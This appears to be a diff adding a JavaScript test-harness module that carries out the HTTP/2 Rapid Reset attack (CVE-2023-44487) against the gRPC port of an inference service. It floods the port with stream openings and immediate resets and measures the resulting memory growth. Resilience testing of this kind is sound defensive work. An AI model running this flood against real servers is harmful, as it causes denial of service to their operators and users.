@@ -1,0 +1,29 @@
+// Attacks on the gRPC port whose cost is measured.
+import { END_HEADERS, H2Connection, TYPE, callHeaders, frame } from './h2.mjs';
+import { SLACK } from './raw.mjs';
+
+const CANCEL = 8;
+const BATCH = 500;
+
+/** Opens streams and resets them at once (CVE-2023-44487), for `ms`. Resolves with their number and the growth in KiB. */
+export async function rapidReset(arena, { ms }) {
+  const before = arena.residentKb(arena.inference);
+  const connection = await H2Connection.open(arena.grpc);
+  const headers = callHeaders('/runnel.v1.InferenceService/Generate');
+  const code = Buffer.from([0, 0, 0, CANCEL]);
+  const until = performance.now() + ms * SLACK;
+  let streams = 0;
+  while (performance.now() < until && !connection.raw.ended) {
+    const batch = [];
+    for (let i = 0; i < BATCH; i++) {
+      const id = 2 * streams++ + 1;
+      batch.push(frame(TYPE.headers, END_HEADERS, id, headers), frame(TYPE.rstStream, 0, id, code));
+    }
+    await connection.raw.send(Buffer.concat(batch));
+    // One call a batch to the event loop, for what comes back.
+    await new Promise(setImmediate);
+  }
+  const kib = arena.residentKb(arena.inference) - before;
+  connection.raw.destroy();
+  return { streams, kib };
+}
